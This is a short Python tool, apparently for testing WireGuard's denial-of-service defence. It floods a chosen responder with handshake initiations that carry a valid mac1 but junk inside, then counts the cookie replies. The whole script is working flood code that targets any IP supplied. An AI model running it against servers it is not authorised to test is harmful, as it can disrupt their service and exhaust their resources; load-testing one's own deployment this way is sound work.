#!/usr/bin/env python3
"""Flood a WireGuard responder with handshake initiations that carry a valid
mac1 (anyone who knows its public key can compute one) but junk inside, as a
denial-of-service attacker would, and count the cookie replies it gets back.

usage: cookie_flood.py TARGET_IP PORT TARGET_PUBKEY_B64 SECONDS
Prints "sent N cookies M" on stdout; M counts 64-byte type-3 messages whose
receiver index is one of ours.
"""
import base64
import hashlib
import os
import socket
import struct
import sys
import threading
import time


def main():
    host, port, pub_b64, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    pub = base64.b64decode(pub_b64)
    mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.connect((host, port))
    s.settimeout(0.2)
    ours = set()
    cookies = 0
    stop = threading.Event()

    def receiver():
        nonlocal cookies
        while not stop.is_set():
            try:
                m = s.recv(2048)
            except (socket.timeout, ConnectionRefusedError):
                continue
            if len(m) == 64 and m[0] == 3 and m[1:4] == b"\0\0\0":
                if struct.unpack("<I", m[4:8])[0] in ours:
                    cookies += 1

    t = threading.Thread(target=receiver, daemon=True)
    t.start()
    sent = 0
    body_tail = os.urandom(108)  # ephemeral, static and timestamp: junk
    end = time.monotonic() + seconds
    idx = 1
    while time.monotonic() < end:
        for _ in range(256):
            idx += 1
            ours.add(idx)
            msg = struct.pack("<II", 1, idx) + body_tail
            mac1 = hashlib.blake2s(msg, digest_size=16, key=mac1_key).digest()
            try:
                s.send(msg + mac1 + bytes(16))
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                pass
    time.sleep(0.5)
    stop.set()
    t.join()
    print(f"sent {sent} cookies {cookies}")


if __name__ == "__main__":
    main()
